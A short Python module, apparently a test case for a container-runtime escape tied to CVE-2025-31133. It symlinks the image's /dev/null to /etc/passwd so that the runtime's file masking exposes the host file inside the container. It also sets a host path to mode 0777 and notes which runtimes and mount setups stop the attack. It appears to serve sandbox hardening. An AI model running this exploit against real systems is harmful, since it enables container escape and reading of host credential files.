"""The image's own /dev/null is a link, and masking a file binds what it leads to."""

import os

from bypass import inert

SOURCE = "CVE-2025-31133, CVE-2026-88265"
WAY = "image content"
BARE = {"crun": "crun 1.8.1 masks with the host's null device"}
STOPPED = inert("a tmpfs is mounted at /dev, with nodes of the runtime's own")


def attack(t):
    os.chmod(t.host, 0o777)
    t.spec["mounts"] = [entry for entry in t.spec["mounts"] if not entry["destination"].startswith("/dev")]
    os.symlink("/etc/passwd", t.rootfs + "/dev/null")
    t.bind(t.host, "/x")
    t.run(["sh", "-c", "cp /proc/timer_list /x/found"])
    return "root:" in t.read(t.host + "/found")
